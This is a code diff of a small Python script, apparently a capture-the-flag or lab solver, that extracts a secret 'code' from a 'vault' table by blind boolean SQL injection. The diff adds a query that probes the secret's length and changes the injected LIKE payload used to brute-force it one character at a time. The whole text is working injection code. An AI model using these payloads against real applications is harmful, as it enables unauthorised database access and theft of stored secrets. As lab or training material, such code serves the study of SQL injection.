@@ -2,12 +2,12 @@ SIGNS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_%" + "".
 
 
 def find(ask):
+    length = next(number for number in range(6, 13) if ask(f"' OR (SELECT length(code) = {number} FROM vault) --"))
     code = ""
-    while True:
+    while len(code) < length:
         for sign in SIGNS:
             known = (code + sign).replace("'", "''")
-            if ask(f"' OR (SELECT left(code, {len(code) + 1}) LIKE '{known}' FROM vault) --"):
+            if ask(f"' OR (SELECT code LIKE '{known}%' FROM vault) --"):
                 code += sign
                 break
-        else:
-            return code
+    return code
